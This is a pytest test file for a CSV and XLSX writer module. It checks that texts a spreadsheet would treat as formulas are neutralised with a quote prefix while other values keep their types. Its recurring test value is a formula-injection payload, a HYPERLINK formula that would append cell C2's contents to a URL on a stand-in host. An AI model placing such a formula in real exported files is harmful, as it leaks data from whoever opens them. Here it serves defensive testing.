"""The one CSV and one XLSX writer (plie.core.writers): a text a spreadsheet would read as a formula
is neutralised, every other value keeps its type. No database."""

import csv
import datetime
import decimal
import io
import re

import pytest
from openpyxl import load_workbook
from openpyxl.styles import Font

from plie.core.writers import CsvWriter, XlsxWriter, csv_bytes, csv_value, is_dangerous, neutralise

FORMULE = '=HYPERLINK("http://x?"&C2,"Voir")'

# (value, neutralised)
NEUTRALISATION = [
    (FORMULE, "'" + FORMULE),
    ("=1+1", "'=1+1"),
    ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Martin", "Martin"),
    ("Jean-Pierre", "Jean-Pierre"),  # a dash inside is harmless
    (" =1+1", " =1+1"),  # only the first character counts (spreadsheets read this as text)
    ("'déjà", "'déjà"),
    ("", ""),
    (-3, -3),  # numbers stay numbers, negative ones included
    (2.5, 2.5),
    (decimal.Decimal("-1.50"), decimal.Decimal("-1.50")),
    (datetime.date(2026, 1, 2), datetime.date(2026, 1, 2)),
    (None, None),
]


@pytest.mark.parametrize(("value", "expected"), NEUTRALISATION)
def test_neutralise(value, expected):
    assert neutralise(value) == expected
    assert is_dangerous(value) == (expected != value)


# (value, CSV text)
CSV_VALUES = [
    (FORMULE, "'" + FORMULE),
    ("-x", "'-x"),
    (-3, "-3"),
    (2.5, "2,5"),
    (decimal.Decimal("-1.50"), "-1,50"),
    (datetime.date(2026, 1, 2), "02/01/2026"),
    (datetime.datetime(2026, 1, 2, 9, 30), "02/01/2026"),
    (None, ""),
    (12, "12"),
]


@pytest.mark.parametrize(("value", "expected"), CSV_VALUES)
def test_csv_value(value, expected):
    assert csv_value(value) == expected


def test_csv_bytes_quote_and_neutralise():
    content = csv_bytes([["nom", "montant"], [FORMULE, -3], ["a;b", None]])
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["nom", "montant"], ["'" + FORMULE, "-3"], ["a;b", ""]]


def test_the_unquoted_csv_joins_cells_and_refuses_a_separator():
    writer = CsvWriter(quoting=False)
    assert writer.line(["=a", '"b"', "c"]) == '\'=a;"b";c\r\n'
    with pytest.raises(ValueError):
        writer.line(["a;b"])


def test_a_line_is_its_cells_through_csv_value():
    """The writer's shortcut for plain texts gives what csv_value gives, cell by cell; a line
    break or a separator in any cell of an unquoted line is refused, naming the first one."""
    cells = ["", "texte", FORMULE, "-1", "@a", "\tb", 12, -3, 1.5, None, datetime.date(2026, 3, 5)]
    expected = [csv_value(cell) for cell in cells]
    assert CsvWriter(quoting=False).line(cells) == ";".join(expected) + "\r\n"
    for bad in (["ok", "a\nb", "c;d"], ["ok", "c;d", "a\rb"]):
        with pytest.raises(ValueError, match=re.escape(repr(bad[1]))):
            CsvWriter(quoting=False).line(bad)


def _cells(content):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("write_only", [False, True])
def test_the_xlsx_has_no_formula_cell_and_keeps_types(write_only):
    writer = XlsxWriter(write_only=write_only, title="Essai")
    sheet = writer.sheet("Feuille")
    writer.append(sheet, ["Nom", "Montant", "Date"], font=Font(bold=True))
    writer.append(sheet, [FORMULE, -3, datetime.date(2026, 1, 2)])
    writer.append(sheet, ["@SUM(A1)", decimal.Decimal("1.5"), writer.cell(sheet, "=1+1", number_format="@")])
    writer.append(sheet, ["Martin", 2.5, None])
    if not write_only:  # written by hand after the fact: caught when saved
        sheet["D2"] = "=2+2"
        sheet.append(["+33"])

    cells = _cells(writer.content())

    assert [cell for cell in cells if cell.data_type == "f"] == []
    values = {cell.coordinate: cell for cell in cells}
    assert (values["A2"].value, values["A2"].data_type, values["A2"].quotePrefix) == (FORMULE, "s", True)
    assert (values["B2"].value, values["B2"].data_type) == (-3, "n")
    assert values["C2"].value == datetime.datetime(2026, 1, 2) and values["C2"].is_date
    assert (values["A3"].value, values["A3"].data_type) == ("@SUM(A1)", "s")
    assert (values["B3"].value, values["C3"].value, values["C3"].data_type) == (1.5, "=1+1", "s")
    assert (values["A4"].value, values["A4"].quotePrefix, values["B4"].value) == ("Martin", False, 2.5)
    assert values["A1"].font.b and values["C1"].font.b
    if not write_only:
        assert (values["D2"].value, values["D2"].data_type) == ("=2+2", "s")
        assert (values["A5"].value, values["A5"].data_type) == ("+33", "s")


def test_a_styled_cell_does_not_lend_its_style_to_the_next_values():
    """openpyxl's write-only ``append`` reuses the last cell given for the plain values after it:
    the writer gives every value of a row with a dangerous text its own cell."""
    writer = XlsxWriter(write_only=True)
    sheet = writer.sheet("Feuille")
    writer.append(sheet, [FORMULE, 3, "texte"])
    a, b, c = (cell for cell in _cells(writer.content()))
    assert a.quotePrefix and not b.quotePrefix and not c.quotePrefix
    assert (b.value, b.data_type) == (3, "n")
